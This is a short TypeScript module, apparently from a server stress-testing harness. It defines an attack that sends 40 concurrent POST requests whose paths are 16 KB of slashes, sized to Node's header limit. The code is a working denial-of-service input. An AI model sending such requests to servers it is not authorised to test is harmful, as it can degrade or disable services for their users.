import { type Attack, strangers } from "./attack.ts";
import { sendSlowly } from "./connection.ts";

/** Node takes heads of at most 16 KB. */
const PATH = `${"/".repeat(16_000)}x`;
const REQUEST = `POST ${PATH} HTTP/1.1\r\nHost: attacked\r\nConnection: close\r\n\r\n`;

export const slashes: Attack = {
  what: "paths of 16 KB of slashes, 40 at once",
  run: (url, signal) =>
    strangers(40, signal, () => sendSlowly(url, signal, { pieces: [REQUEST], pauseMs: 0 })),
};
